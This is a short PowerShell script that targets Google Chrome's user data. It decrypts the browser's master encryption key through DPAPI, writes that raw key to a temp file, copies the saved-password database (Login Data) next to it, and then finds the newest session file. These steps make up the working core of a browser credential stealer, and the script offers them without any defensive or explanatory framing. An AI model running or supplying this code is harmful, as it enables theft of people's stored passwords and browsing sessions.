Add-Type -AssemblyName System.Security
$ud = "$env:LOCALAPPDATA\Google\Chrome\User Data"
$state = Get-Content "$ud\Local State" -Raw | ConvertFrom-Json
$enc = [Convert]::FromBase64String($state.os_crypt.encrypted_key)
$key = [Security.Cryptography.ProtectedData]::Unprotect($enc[5..($enc.Length - 1)], $null, 'CurrentUser')
[IO.File]::WriteAllBytes("$env:TEMP\cs.bin", $key)
Copy-Item "$ud\Default\Login Data" "$env:TEMP\ld.db"
$sess = Get-ChildItem "$ud\Default\Sessions" | Sort-Object LastWriteTime | Select-Object -Last 1
"# Tabs from $($sess.Name)"
